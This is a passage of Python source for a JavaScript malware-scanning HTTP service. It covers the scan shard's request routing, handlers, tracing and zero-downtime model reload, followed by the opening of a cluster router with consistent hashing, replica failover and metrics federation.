        return status, json_response(status, payload, extra_headers=extra_headers)

    def _err(
        self,
        request: Request,
        status: int,
        message: str,
        detail: dict | None = None,
        extra_headers: dict[str, str] | None = None,
        trace_id: str | None = None,
        keep_alive: bool = True,
    ) -> tuple[int, bytes]:
        if trace_id is None:
            trace_id = self._request_trace_id(request)
        if request.api == "v1":
            return status, v1_error_response(
                status, message, trace_id=trace_id, detail=detail,
                extra_headers=extra_headers, keep_alive=keep_alive,
            )
        return status, error_response(
            status, message, extra_headers=extra_headers, keep_alive=keep_alive
        )

    # --------------------------------------------------------------- routing

    async def _route(self, request: Request) -> tuple[bytes, bool]:
        """Dispatch one request; returns ``(response_bytes, keep_alive)``."""
        request.api, logical = split_api_path(request.path)
        deprecated = request.api == "legacy" and is_legacy_alias(logical)
        handlers = {
            ("GET", "/healthz"): self._handle_healthz,
            ("GET", "/version"): self._handle_version,
            ("GET", "/metrics"): self._handle_metrics,
            ("POST", "/scan"): self._handle_scan,
            ("POST", "/scan/batch"): self._handle_scan_batch,
            ("POST", "/analyze"): self._handle_analyze,
        }
        if request.api == "v1":
            handlers[("POST", "/admin/reload")] = self._handle_admin_reload
            handlers[("GET", "/debug/prof")] = self._handle_prof
        handler = handlers.get((request.method, logical))
        known_path = any(path == logical for _, path in handlers)
        if handler is None and logical.startswith("/debug/traces"):
            known_path = True
            if request.method == "GET":
                handler = (
                    self._handle_traces_list
                    if logical.rstrip("/") == "/debug/traces"
                    else self._handle_trace_get
                )
        try:
            if handler is None:
                status, response = self._err(
                    request,
                    405 if known_path else 404,
                    f"no route for {request.method} {request.path}",
                    extra_headers={"Allow": "GET, POST"} if known_path else None,
                )
            else:
                status, response = await handler(request)
        except ProtocolError as error:
            status, response = self._err(request, error.status, error.message)
        except _Reply as reply:  # early termination raised outside a handler's catch
            status, response = self._render_reply(request, reply)
        except Exception as error:  # a handler bug must not kill the connection loop
            status, response = self._err(
                request, 500, f"internal error: {type(error).__name__}: {error}"
            )
        if deprecated:
            self._count_deprecated(logical)
            response = _inject_headers(response, deprecation_headers(logical))
        self._count_request(request.method, request.path, status)
        return response, status < 500 or status == 503

    def _render_reply(
        self, request: Request, reply: "_Reply", trace_id: str | None = None
    ) -> tuple[int, bytes]:
        return self._err(
            request,
            reply.status,
            reply.message,
            detail=reply.detail,
            extra_headers=reply.headers,
            trace_id=trace_id,
            keep_alive=reply.keep_alive,
        )

    # -------------------------------------------------------------- handlers

    async def _handle_healthz(self, request: Request) -> tuple[int, bytes]:
        payload = {
            "status": "ok",
            "model_fingerprint": self.fingerprint,
            "epoch": self.epoch,
            "pid": os.getpid(),
            "draining": bool(getattr(self.batcher, "_draining", False)),
            "queue_depth": self.batcher.queue_depth,
            "uptime_s": round(time.time() - self.started_at, 3),
            "breaker": self.breaker.snapshot(),
            "quarantined": len(self.quarantine),
            "traces_stored": len(self.traces),
        }
        return self._ok(request, payload)

    async def _handle_version(self, request: Request) -> tuple[int, bytes]:
        from repro import __version__

        payload = {
            "service": "repro.serve",
            "version": __version__,
            "model_fingerprint": self.fingerprint,
            "config": {
                "n_workers": self.config.n_workers,
                "max_batch": self.config.max_batch,
                "max_wait_ms": self.config.max_wait_ms,
                "queue_limit": self.config.queue_limit,
                "threshold": self.config.threshold,
                "timeout_s": self.config.timeout_s,
                "max_rss_mb": self.config.max_rss_mb,
                "max_cpu_s": self.config.max_cpu_s,
                "breaker_threshold": self.config.breaker_threshold,
                "breaker_reset_s": self.config.breaker_reset_s,
                "max_body_bytes": self.config.max_body_bytes,
                "deobfuscate": self.config.deobfuscate,
            },
        }
        return self._ok(request, payload)

    async def _handle_metrics(self, request: Request) -> tuple[int, bytes]:
        self._m_uptime.set(round(time.time() - self.started_at, 3))
        body = self.metrics.render().encode("utf-8")
        return 200, render_response(200, body, content_type=MetricsRegistry.CONTENT_TYPE)

    async def _handle_traces_list(self, request: Request) -> tuple[int, bytes]:
        filters = trace_list_query(request)
        payload = {
            "traces": self.traces.list(
                max(1, min(filters["n"], self.traces.capacity)),
                slow_ms=filters["slow_ms"],
                status=filters["status"],
            ),
            "stored": self.traces.stored,
            "evicted": self.traces.evicted,
            "sample_rate": self.config.trace_sample_rate,
        }
        return self._ok(request, payload)

    async def _handle_prof(self, request: Request) -> tuple[int, bytes]:
        """Collapsed-stack wall-clock profile of this shard's live threads.

        The capture itself blocks, so it runs on the default executor —
        not the single scan-executor thread, which must stay sampleable.
        """
        try:
            seconds = float(request.query.get("seconds", "1"))
            hz = float(request.query["hz"]) if "hz" in request.query else None
        except ValueError as error:
            raise ProtocolError(400, '"seconds" and "hz" must be numbers') from error
        if seconds <= 0 or (hz is not None and hz <= 0):
            raise ProtocolError(400, '"seconds" and "hz" must be positive')
        thread_prefix = request.query.get("threads")
        loop = asyncio.get_running_loop()
        report = await loop.run_in_executor(
            None, lambda: self.profiler.profile(seconds, hz=hz, thread_prefix=thread_prefix)
        )
        return 200, render_response(
            200, report.collapsed().encode("utf-8"), content_type="text/plain; charset=utf-8"
        )

    async def _handle_trace_get(self, request: Request) -> tuple[int, bytes]:
        trace_id = request.path.rstrip("/").rsplit("/", 1)[-1]
        record = self.traces.get(trace_id)
        if record is None:
            return self._err(request, 404, f"trace {trace_id!r} not found (expired or unsampled)")
        return self._ok(request, record)

    # --------------------------------------------------------------- tracing

    def _start_request_trace(self, request: Request, name: str):
        """Open the per-request root span (inbound ``traceparent`` wins)."""
        parent = SpanContext.parse(request.traceparent)
        root = self.tracer.start_trace(
            name, parent=parent, attributes={"method": request.method, "path": request.path}
        )
        if root.recording:
            # The latency histogram's exemplar for this request points at
            # a trace id that will actually exist in the store.
            request.trace_id_hint = root.context.trace_id
        return root

    @staticmethod
    def _trace_headers(root) -> dict[str, str]:
        context = root.context
        return {"X-Trace-Id": context.trace_id, "traceparent": context.to_traceparent()}

    def _graft_batch(self, root, report, total_wait_ms: float | None) -> None:
        """Stitch one batch's span tree into a traced request's trace.

        The scanner traces each micro-batch as its own trace (one batch
        serves requests from many traces); for every traced waiter the
        batch spans are re-keyed to the request's trace id and the batch
        root is re-parented under a synthesized ``batch.execute`` span.
        The gap between total wait and batch execution is the queue
        (``total_wait_ms=None`` skips the queue span — used when a large
        request spans several micro-batches and the wait was already
        accounted to the first one).
        """
        if not root.recording:
            return
        batch_trace = report.trace or {}
        batch_ms = float(report.elapsed_ms)
        if total_wait_ms is not None:
            root.synthesize("queue.wait", max(total_wait_ms - batch_ms, 0.0))
        anchor = root.synthesize(
            "batch.execute",
            batch_ms,
            attributes={"batch_trace_id": batch_trace.get("trace_id"), "batch_size": report.n_files},
        )
        spans = batch_trace.get("spans") or []
        span_ids = {span.get("span_id") for span in spans}
        for span in spans:
            span = dict(span)
            if span.get("parent_id") not in span_ids:
                span["parent_id"] = anchor["span_id"]
            root.add_span_dict(span)

    def _parse_threshold(self, payload: dict) -> float:
        threshold = payload.get("threshold", self.config.threshold)
        if not isinstance(threshold, (int, float)) or isinstance(threshold, bool):
            raise ProtocolError(400, "threshold must be a number")
        return float(threshold)

    def _parse_deobfuscate(self, payload: dict) -> bool:
        flag = payload.get("deobfuscate", self.config.deobfuscate)
        if not isinstance(flag, bool):
            raise ProtocolError(400, '"deobfuscate" must be a boolean')
        return flag

    def _analyze_normalized(self, source: str, name: str):
        """Normalize then analyze; spans map back via the line map."""
        normalized, norm_report = self.deobfuscator.normalize(source, name=name)
        line_map = norm_report.line_map if norm_report.changed else None
        report = self.analyzer.analyze(
            normalized,
            name,
            line_map=line_map,
            raw_source=source if line_map is not None else None,
        )
        return report, norm_report

    @staticmethod
    def _result_payload(result, threshold: float) -> dict:
        out = result.to_dict()
        # The batch-trace envelope never ships raw: a traced batch may
        # contain *other* requests' scripts, and untraced requests must
        # stay byte-identical.  Traced requests get their own envelope
        # re-keyed to the request trace (see the handlers).
        out.pop("trace", None)
        # Per-request thresholds re-derive the verdict from the probability;
        # the classifier label and probability themselves never change.
        out["malicious"] = bool(result.probability >= threshold)
        out["verdict"] = "malicious" if out["malicious"] else "benign"
        return out

    async def _submit(self, source: str, name: str, meta: dict | None = None) -> asyncio.Future:
        if not self.breaker.allow():
            retry = max(
                self.config.retry_after_s, math.ceil(self.breaker.retry_after_s())
            )
            raise _Reply(
                503,
                "scan workers are failing; circuit breaker is open",
                headers={"Retry-After": str(retry)},
                detail={"state": "breaker_open", "retry_after_s": retry},
            )
        try:
            return self.batcher.submit(source, name, meta=meta)
        except QueueFull as error:
            raise _Reply(
                429,
                str(error),
                headers={"Retry-After": str(self.config.retry_after_s)},
                detail={"state": "queue_full", "queue_limit": self.config.queue_limit},
            ) from error
        except Draining as error:
            raise _Reply(
                503, "server is draining", detail={"state": "draining"}, keep_alive=False
            ) from error

    async def _handle_scan(self, request: Request) -> tuple[int, bytes]:
        payload = request.json()
        if not isinstance(payload, dict):
            raise ProtocolError(400, "request body must be a JSON object")
        source = payload.get("source")
        if not isinstance(source, str):
            raise ProtocolError(400, 'missing or non-string "source" field')
        name = payload.get("name", "<request>")
        if not isinstance(name, str):
            raise ProtocolError(400, '"name" must be a string')
        threshold = self._parse_threshold(payload)
        deobfuscate = self._parse_deobfuscate(payload)

        root = self._start_request_trace(request, "http.scan")
        with root:
            root.set_attribute("script", name)
            submitted = time.perf_counter()
            try:
                future = await self._submit(
                    source, name, meta={"trace": root.recording, "deobfuscate": deobfuscate}
                )
            except _Reply as reply:
                root.set_status("error", f"rejected {reply.status}")
                return self._render_reply(request, reply, trace_id=root.context.trace_id)
            try:
                result, report = await asyncio.wait_for(future, self.config.request_timeout_s)
            except asyncio.TimeoutError:
                root.set_status("error", "request timeout")
                return self._err(
                    request,
                    503,
                    f"scan did not complete within {self.config.request_timeout_s:g}s",
                    detail={"state": "timeout"},
                    extra_headers={"Retry-After": str(self.config.retry_after_s)},
                    trace_id=root.context.trace_id,
                )
            total_wait_ms = 1000.0 * (time.perf_counter() - submitted)
            self._graft_batch(root, report, total_wait_ms)
            trace_id = root.context.trace_id
            body = self._result_payload(result, threshold)
            body["threshold"] = threshold
            body["model_fingerprint"] = report.model_fingerprint
            body["trace_id"] = trace_id
            if root.recording and result.trace is not None:
                body["trace"] = {
                    "trace_id": trace_id,
                    "provenance": result.trace.get("provenance"),
                }
            self.log.debug(
                "scan served",
                extra={"trace_id": trace_id, "script": name, "verdict": body["verdict"]},
            )
        return self._ok(
            request, body, trace_id=trace_id, extra_headers=self._trace_headers(root)
        )

    async def _handle_analyze(self, request: Request) -> tuple[int, bytes]:
        payload = request.json()
        if not isinstance(payload, dict):
            raise ProtocolError(400, "request body must be a JSON object")
        source = payload.get("source")
        if not isinstance(source, str):
            raise ProtocolError(400, 'missing or non-string "source" field')
        name = payload.get("name", "<request>")
        if not isinstance(name, str):
            raise ProtocolError(400, '"name" must be a string')
        deobfuscate = self._parse_deobfuscate(payload)
        # Analysis bypasses the micro-batch queue (it needs no model), but
        # an overloaded daemon still sheds load uniformly: when the scan
        # queue is saturated, the cheap endpoint backs off too.
        if self.batcher.queue_depth >= self.config.queue_limit:
            return self._err(
                request,
                429,
                f"queue full ({self.config.queue_limit} requests pending)",
                detail={"state": "queue_full", "queue_limit": self.config.queue_limit},
                extra_headers={"Retry-After": str(self.config.retry_after_s)},
            )
        root = self._start_request_trace(request, "http.analyze")
        with root:
            root.set_attribute("script", name)
            loop = asyncio.get_running_loop()
            norm_report = None
            if deobfuscate:
                # Same ordering contract as the scan pipeline: normalize
                # first, analyze the normalized text, and report both the
                # normalized spans and (via the line map) the raw spans of
                # the script the caller actually submitted.
                report, norm_report = await loop.run_in_executor(
                    None, self._analyze_normalized, source, name
                )
            else:
                report = await loop.run_in_executor(None, self.analyzer.analyze, source, name)
            root.synthesize("analysis", report.elapsed_ms, attributes={"n_findings": report.n_findings})
            body = report.to_dict()
            if norm_report is not None and norm_report.interesting:
                body["normalization"] = norm_report.to_dict()
            body["trace_id"] = root.context.trace_id
        return self._ok(
            request, body, trace_id=root.context.trace_id, extra_headers=self._trace_headers(root)
        )

    async def _handle_scan_batch(self, request: Request) -> tuple[int, bytes]:
        payload = request.json()
        if not isinstance(payload, dict):
            raise ProtocolError(400, "request body must be a JSON object")
        scripts = payload.get("scripts")
        if not isinstance(scripts, list) or not scripts:
            raise ProtocolError(400, '"scripts" must be a non-empty array')
        threshold = self._parse_threshold(payload)
        deobfuscate = self._parse_deobfuscate(payload)

        sources: list[str] = []
        names: list[str] = []
        for index, entry in enumerate(scripts):
            if isinstance(entry, str):
                source, name = entry, f"<batch:{index}>"
            elif isinstance(entry, dict) and isinstance(entry.get("source"), str):
                source = entry["source"]
                name = entry.get("name", f"<batch:{index}>")
                if not isinstance(name, str):
                    raise ProtocolError(400, f'scripts[{index}].name must be a string')
            else:
                raise ProtocolError(
                    400, f'scripts[{index}] must be a string or an object with a "source" string'
                )
            sources.append(source)
            names.append(name)

        root = self._start_request_trace(request, "http.scan_batch")
        with root:
            root.set_attribute("n_scripts", len(sources))
            submitted = time.perf_counter()
            futures: list[asyncio.Future] = []
            try:
                for source, name in zip(sources, names):
                    futures.append(
                        await self._submit(
                            source,
                            name,
                            meta={"trace": root.recording, "deobfuscate": deobfuscate},
                        )
                    )
            except _Reply as reply:
                for future in futures:  # abandon what we already queued
                    future.cancel()
                root.set_status("error", f"rejected {reply.status}")
                return self._render_reply(request, reply, trace_id=root.context.trace_id)
            try:
                resolved = await asyncio.wait_for(
                    asyncio.gather(*futures), self.config.request_timeout_s
                )
            except asyncio.TimeoutError:
                for future in futures:
                    future.cancel()
                root.set_status("error", "request timeout")
                return self._err(
                    request,
                    503,
                    f"batch did not complete within {self.config.request_timeout_s:g}s",
                    detail={"state": "timeout"},
                    extra_headers={"Retry-After": str(self.config.retry_after_s)},
                    trace_id=root.context.trace_id,
                )
            total_wait_ms = 1000.0 * (time.perf_counter() - submitted)
            # A large request may have been split across several micro-batches;
            # graft each distinct batch trace into this request's trace once.
            grafted: set[str] = set()
            for _, report in resolved:
                batch_id = (report.trace or {}).get("trace_id", "")
                if batch_id and batch_id not in grafted:
                    self._graft_batch(root, report, total_wait_ms if not grafted else None)
                    grafted.add(batch_id)
            results = [self._result_payload(result, threshold) for result, _ in resolved]
            body = {
                "n_files": len(results),
                "n_malicious": sum(1 for r in results if r["malicious"]),
                "threshold": threshold,
                "model_fingerprint": self.fingerprint,
                "trace_id": root.context.trace_id,
                "results": results,
            }
        return self._ok(
            request, body, trace_id=root.context.trace_id, extra_headers=self._trace_headers(root)
        )

    # ------------------------------------------------------ zero-downtime reload

    def _prepare_model(self, model_dir: str):
        """Load a new model + build its scanner/cache (off the scan thread)."""
        from repro.core.persistence import load_detector

        detector = load_detector(model_dir)
        fingerprint = detector.fingerprint()
        cache = FeatureCache(
            fingerprint,
            max_entries=self.config.cache_entries,
            cache_dir=self.config.cache_dir,
            metrics=self.metrics,
        )
        limits = self.config.scan_limits()
        scanner = BatchScanner(
            detector,
            n_workers=self.config.n_workers,
            cache=cache,
            persistent=self.config.n_workers > 1 or (limits is not None and limits.active),
            metrics=self.metrics,
            limits=limits,
            quarantine=self.quarantine if limits is not None and limits.active else None,
            tracer=Tracer(sample_rate=0.0),
        )
        return detector, scanner, cache

    def _swap_model(self, detector, scanner, cache) -> None:
        """Swap the served model; runs ON the single scan-executor thread.

        Micro-batches execute on that same thread, so the swap can never
        interleave with a scan — requests queued behind it simply hit the
        new model.  This is the whole zero-downtime trick.
        """
        old_scanner = self.scanner
        self.detector = detector
        self.scanner = scanner
        self.cache = cache
        self.fingerprint = detector.fingerprint()
        self.epoch += 1
        self._m_reloads.inc()
        self._m_epoch.set(self.epoch)
        old_scanner.close()

    async def _handle_admin_reload(self, request: Request) -> tuple[int, bytes]:
        payload = request.json()
        if not isinstance(payload, dict):
            raise ProtocolError(400, "request body must be a JSON object")
        model_dir = payload.get("model_dir")
        if not isinstance(model_dir, str) or not model_dir:
            raise ProtocolError(400, 'missing or non-string "model_dir" field')
        loop = asyncio.get_running_loop()
        try:
            detector, scanner, cache = await loop.run_in_executor(
                None, self._prepare_model, model_dir
            )
        except Exception as error:
            return self._err(
                request,
                400,
                f"model load failed: {type(error).__name__}: {error}",
                detail={"model_dir": model_dir},
            )
        old_fingerprint = self.fingerprint
        await loop.run_in_executor(self._executor, self._swap_model, detector, scanner, cache)
        self.log.info(
            "model reloaded",
            extra={"model_dir": model_dir, "epoch": self.epoch},
        )
        return self._ok(
            request,
            {
                "status": "reloaded",
                "model_dir": model_dir,
                "old_fingerprint": old_fingerprint,
                "model_fingerprint": self.fingerprint,
                "epoch": self.epoch,
            },
        )


class _Reply(Exception):
    """Internal control flow: a semantic early response.

    Carries *what went wrong*, not bytes — the routing layer renders it
    as a legacy ``{"error": {...}}`` body or a v1 error envelope
    depending on which surface the request arrived on.
    """

    def __init__(
        self,
        status: int,
        message: str,
        headers: dict[str, str] | None = None,
        detail: dict | None = None,
        keep_alive: bool = True,
    ):
        super().__init__(status)
        self.status = status
        self.message = message
        self.headers = headers
        self.detail = detail
        self.keep_alive = keep_alive


def _inject_headers(response: bytes, headers: dict[str, str]) -> bytes:
    """Add headers to an already-rendered response (deprecation aliases).

    The legacy body must stay byte-identical, so alias responses are
    rendered exactly as before and the ``Deprecation``/``Link`` headers
    are spliced into the header block afterwards.
    """
    head, sep, body = response.partition(b"\r\n\r\n")
    if not sep:  # pragma: no cover - every rendered response has the blank line
        return response
    extra = "".join(f"\r\n{name}: {value}" for name, value in headers.items())
    return head + extra.encode("latin-1") + sep + body


def run_server(detector: "JSRevealer", config: ServeConfig | None = None) -> int:
    """Blocking entry point used by ``repro serve``; returns the exit code."""
    from repro.faults.inject import maybe_inject_boot

    maybe_inject_boot()  # chaos seam: dormant without REPRO_FAULT_INJECT
    server = ScanServer(detector, config)
    try:
        asyncio.run(server.run_until_signaled())
    except KeyboardInterrupt:  # signal handler not installable (rare)
        return 0
    return 0


class BackgroundServer:
    """A ScanServer on a daemon thread — tests, benches, and notebooks.

    Usage::

        with BackgroundServer(detector, ServeConfig(port=0)) as server:
            http.client.HTTPConnection(server.host, server.port)…
    """

    def __init__(self, detector: "JSRevealer", config: ServeConfig | None = None):
        self.config = config or ServeConfig(port=0)
        self.detector = detector
        self.server: ScanServer | None = None
        self.port: int | None = None
        self._ready = threading.Event()
        self._startup_error: BaseException | None = None
        self._loop: asyncio.AbstractEventLoop | None = None
        self._stop_event: asyncio.Event | None = None
        self._thread: threading.Thread | None = None

    @property
    def host(self) -> str:
        return self.config.host

    @property
    def url(self) -> str:
        return f"http://{self.host}:{self.port}"

    def __enter__(self) -> "BackgroundServer":
        self._thread = threading.Thread(target=self._thread_main, daemon=True)
        self._thread.start()
        if not self._ready.wait(timeout=30):
            raise RuntimeError("background server failed to start in time")
        if self._startup_error is not None:
            raise RuntimeError("background server failed to start") from self._startup_error
        return self

    def __exit__(self, *exc) -> bool:
        self.stop()
        return False

    def stop(self) -> None:
        if self._loop is not None and self._stop_event is not None:
            self._loop.call_soon_threadsafe(self._stop_event.set)
        if self._thread is not None:
            self._thread.join(timeout=30)
            self._thread = None

    def _thread_main(self) -> None:
        try:
            asyncio.run(self._amain())
        except BaseException as error:  # surface startup failures to __enter__
            self._startup_error = error
            self._ready.set()

    async def _amain(self) -> None:
        self.server = ScanServer(self.detector, self.config)
        self._loop = asyncio.get_running_loop()
        self._stop_event = asyncio.Event()
        await self.server.start()
        self.port = self.server.bound_port
        self._ready.set()
        await self._stop_event.wait()
        await self.server.stop(drain=True)
