"""The cluster front door: one listener, N scan shards behind it.

The router terminates HTTP (same hand-rolled framing as the shards),
picks a shard per script by consistent-hashing its SHA-256 content key
(:mod:`repro.serve.hashring` — the same key the feature cache uses, so
every copy of a script hits the shard whose memory LRU already holds
it), and forwards the request with the client's ``traceparent`` carried
through — one scan's span tree crosses both processes under one trace
id.

Every content key is placed on **R replicas** (the first R distinct
shards in the key's ring preference order): the primary serves by
default — cache affinity — and failure handling, built on
:func:`repro.faults.classify_shard_fault`, fails over deterministically
along the replica set.  Scans are pure functions of the source, so
transport failures and shard-local 503s (drain, open breaker) are
**retried on the next replica** (counted per reason in
``repro_router_failovers_total``), while 429 (cluster is genuinely
loaded) and 4xx (the request is wrong) pass through.  Replicas the
supervisor already knows are down are subset out up front.  A shard
that fails a request is reported to the
:class:`~repro.serve.supervisor.ShardSupervisor`, which health-checks
it immediately and replaces it if it is gone.  Only when a key's
*whole replica set* is gone does the router **brown out** — 503 with
``Retry-After`` — rather than hanging or dropping the connection.

In front of the fan-out sits a **verdict cache**
(:class:`~repro.serve.vcache.VerdictCache`): hot re-scanned content is
answered at the router, keyed on (content SHA-256, model epoch, scan
options), invalidated wholesale when ``/v1/admin/reload`` bumps the
epoch.

Batch scans fan out: scripts are grouped by owning shard, sub-batches
run concurrently, and the merged response preserves the caller's
ordering.  ``POST /v1/admin/reload`` delegates to the supervisor's
rolling reload.  Everything speaks the same v1 envelope (and the same
legacy aliases) as a single daemon — a ``ScanClient`` cannot tell the
difference, which is the point.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import time
from dataclasses import dataclass, field

from repro.faults import classify_shard_fault
from repro.faults.shardfault import SHARD_FAULTS
from repro.obs import (
    AGGREGATE_MODES,
    FleetMetrics,
    MetricsRegistry,
    SamplingProfiler,
    SLOEngine,
    SLOSpec,
    SLOStatus,
    SpanContext,
    TimeseriesRing,
    Tracer,
    TraceStore,
    default_slos,
    get_logger,
    parse_exposition,
)
from repro.pipeline import content_key

from .api import (
    V1_PREFIX,
    deprecation_headers,
    is_legacy_alias,
    protocol_error_response,
    split_api_path,
    v1_error_response,
    v1_response,
)
from .app import _inject_headers
from .hashring import HashRing
from .http import (
    MAX_BODY_BYTES,
    ProtocolError,
    Request,
    Response,
    error_response,
    fetch,
    json_response,
    read_request,
    render_response,
    trace_list_query,
)
from .supervisor import ShardSupervisor
from .vcache import VerdictCache

#: Response headers never copied through from a shard (re-derived by the
#: router's own renderer).
_HOP_HEADERS = {"content-length", "connection", "content-type"}


@dataclass
class RouterConfig:
    """Front-door knobs; mirrors the ``repro cluster`` CLI flags."""

    host: str = "127.0.0.1"
    port: int = 8076  # 0 = ephemeral (tests/benches read .bound_port)
    request_timeout_s: float = 60.0
    retry_after_s: int = 1  # advertised on brownout 503
    max_body_bytes: int = MAX_BODY_BYTES
    trace_sample_rate: float = 0.1
    trace_capacity: int = 256
    trace_slow_ms: float = 250.0
    vnodes: int = 64  # ring points per shard
    #: Replicas per hash-ring slot: the primary plus R-1 deterministic
    #: failover targets.  Clamped to the fleet size at routing time.
    replicas: int = 2
    #: Router verdict-cache capacity (entries); 0 disables the cache.
    verdict_cache_size: int = 1024
    #: Seconds between federation scrapes of each shard's /v1/metrics;
    #: 0 disables the scrape loop (federated views go stale-empty).
    scrape_interval_s: float = 2.0
    #: Per-shard fetch timeout inside one federation scrape.
    scrape_timeout_s: float = 5.0
    #: Scrape snapshots retained per fleet member (the SLO windows and
    #: ``repro top`` read through this ring).
    timeseries_capacity: int = 300
    #: SLO burn-rate windows (seconds): fast reacts, slow suppresses blips.
    slo_fast_window_s: float = 60.0
    slo_slow_window_s: float = 300.0
    #: Declarative objectives evaluated every scrape.
    slos: tuple[SLOSpec, ...] = field(default_factory=default_slos)
    #: Default sampling rate for GET /v1/debug/prof captures.
    profile_hz: float = 99.0

    def validate(self) -> None:
        if self.request_timeout_s <= 0:
            raise ValueError("request_timeout_s must be positive")
        if self.max_body_bytes < 1:
            raise ValueError("max_body_bytes must be positive")
        if self.vnodes < 1:
            raise ValueError("vnodes must be positive")
        if self.replicas < 1:
            raise ValueError("replicas must be positive")
        if self.verdict_cache_size < 0:
            raise ValueError("verdict_cache_size must be >= 0")
        if self.scrape_interval_s < 0:
            raise ValueError("scrape_interval_s must be >= 0 (0 disables scraping)")
        if self.scrape_timeout_s <= 0:
            raise ValueError("scrape_timeout_s must be positive")
        if self.timeseries_capacity < 2:
            raise ValueError("timeseries_capacity must be at least 2")
        if not 0 < self.slo_fast_window_s < self.slo_slow_window_s:
            raise ValueError("need 0 < slo_fast_window_s < slo_slow_window_s")
        if self.profile_hz <= 0:
            raise ValueError("profile_hz must be positive")


class ScanRouter:
    """HTTP front door consistent-hashing scans across supervised shards."""

    def __init__(
        self,
        supervisor: ShardSupervisor,
        config: RouterConfig | None = None,
        metrics: MetricsRegistry | None = None,
    ):
        self.config = config or RouterConfig()
        self.config.validate()
        self.supervisor = supervisor
        self.metrics = metrics or MetricsRegistry()
        self.ring = HashRing(vnodes=self.config.vnodes)
        for i in range(supervisor.n_shards):
            self.ring.add(f"shard-{i}")
        self.traces = TraceStore(
            capacity=self.config.trace_capacity, slow_ms=self.config.trace_slow_ms
        )
        self.tracer = Tracer(sample_rate=self.config.trace_sample_rate, sink=self.traces.put)
        self.log = get_logger("router")
        self._server: asyncio.AbstractServer | None = None
        self.bound_port: int | None = None
        self.started_at = time.time()
        self._rr = 0  # round-robin cursor for keyless endpoints
        self.verdicts = VerdictCache(
            capacity=self.config.verdict_cache_size, metrics=self.metrics
        )
        self._m_requests: dict[tuple[str, str, int], object] = {}
        self._m_deprecated: dict[str, object] = {}
        self._m_forwarded: dict[str, object] = {}
        for i in range(supervisor.n_shards):
            self._count_forwarded(f"shard-{i}", register_only=True)
        self._m_retries = self.metrics.counter(
            "repro_router_retries_total", "Requests re-sent to another shard after a shard fault"
        )
        self._m_failovers = {
            cause: self.metrics.counter(
                "repro_router_failovers_total",
                "Requests failed over to the next replica, by fault reason",
                labels={"reason": cause},
            )
            for cause in SHARD_FAULTS
        }
        self._m_brownouts = self.metrics.counter(
            "repro_router_brownouts_total", "Requests answered 503 because no shard could take them"
        )
        self._m_latency = self.metrics.histogram(
            "repro_router_request_seconds", "Wall-clock per routed request"
        )
        import platform

        from repro import __version__

        self.metrics.gauge(
            "repro_build_info",
            "Constant 1; the labels carry the build/runtime identity",
            labels={"version": __version__, "python": platform.python_version()},
        ).set(1)
        self._m_uptime = self.metrics.gauge(
            "repro_uptime_seconds", "Seconds since the server started"
        )
        # -- fleet observability plane ----------------------------------
        self.fleet = FleetMetrics()
        self.timeseries = TimeseriesRing(capacity=self.config.timeseries_capacity)
        self.slo = SLOEngine(
            self.config.slos,
            fast_window_s=self.config.slo_fast_window_s,
            slow_window_s=self.config.slo_slow_window_s,
            metrics=self.metrics,
        )
        self.slo_status: list[SLOStatus] = []
        self.profiler = SamplingProfiler(hz=self.config.profile_hz)
        #: Optional hook the cluster controller installs so /v1/status can
        #: report autoscaler posture without the router importing it.
        self.autoscale_status: object | None = None
        self.last_scrape_at: float | None = None
        self._m_scrape_errors: dict[str, object] = {}
        self._scrape_task: asyncio.Task | None = None

    def _count_scrape_error(self, shard_id: str) -> None:
        counter = self._m_scrape_errors.get(shard_id)
        if counter is None:
            counter = self.metrics.counter(
                "repro_fleet_scrape_errors_total",
                "Failed federation scrapes of a shard's /v1/metrics",
                labels={"shard": shard_id},
            )
            self._m_scrape_errors[shard_id] = counter
        counter.inc()  # type: ignore[attr-defined]

    def _count_forwarded(self, shard_id: str, register_only: bool = False) -> None:
        """Per-shard forward counter, created on first use (the fleet is
        dynamic under autoscaling)."""
        counter = self._m_forwarded.get(shard_id)
        if counter is None:
            counter = self.metrics.counter(
                "repro_router_forwarded_total",
                "Requests forwarded to each shard",
                labels={"shard": shard_id},
            )
            self._m_forwarded[shard_id] = counter
        if not register_only:
            counter.inc()

    def sync_ring(self) -> None:
        """Reconcile the hash ring with the supervisor's current fleet —
        called by the cluster controller after autoscaling events."""
        current = set(self.supervisor.shards)
        for member in list(self.ring.members):
            if member not in current:
                self.ring.remove(member)
        for shard_id in sorted(current):
            if shard_id not in self.ring:
                self.ring.add(shard_id)

    # -------------------------------------------------------------- lifecycle

    async def start(self) -> None:
        self._server = await asyncio.start_server(
            self._on_connection, host=self.config.host, port=self.config.port
        )
        self.bound_port = self._server.sockets[0].getsockname()[1]
        if self.config.scrape_interval_s > 0:
            self._scrape_task = asyncio.get_running_loop().create_task(self._scrape_loop())

    async def stop(self) -> None:
        if self._scrape_task is not None:
            self._scrape_task.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await self._scrape_task
            self._scrape_task = None
        if self._server is not None:
            self._server.close()
            await self._server.wait_closed()
            self._server = None

    # ------------------------------------------------------------ federation

    async def _scrape_loop(self) -> None:
        # Interval-first: the fleet gets one scrape interval to settle
        # after boot before the first federation pass hits every shard.
        while True:
            await asyncio.sleep(self.config.scrape_interval_s)
            try:
                await self.scrape_once()
            except asyncio.CancelledError:
                raise
            except Exception as error:  # a scrape must never kill the loop
                self.log.warning(
                    "fleet scrape pass failed",
                    extra={"error": f"{type(error).__name__}: {error}"},
                )

    async def scrape_once(self) -> None:
        """One federation pass: scrape every shard, refresh SLO states.

        Members that left the fleet (autoscale-down, replacement) are
        forgotten first so the aggregated exposition tracks membership;
        a failed scrape counts in ``repro_fleet_scrape_errors_total`` and
        leaves that member's last good snapshot in place.
        """
        shards = dict(self.supervisor.shards)
        for member in self.fleet.members:
            if member not in shards:
                self.fleet.forget(member)
                self.timeseries.forget(member)

        async def scrape(shard_id: str, spec) -> None:
            try:
                response = await fetch(
                    spec.host, spec.port, "GET", f"{V1_PREFIX}/metrics",
                    timeout_s=self.config.scrape_timeout_s,
                )
                if response.status != 200:
                    raise RuntimeError(f"shard answered {response.status}")
                families = parse_exposition(response.body.decode("utf-8"))
            except asyncio.CancelledError:
                raise
            except Exception as error:
                self._count_scrape_error(shard_id)
                self.log.warning(
                    "fleet scrape failed",
                    extra={"shard": shard_id, "error": f"{type(error).__name__}: {error}"},
                )
                return
            self.fleet.update(shard_id, families)
            self.timeseries.append(shard_id, families)

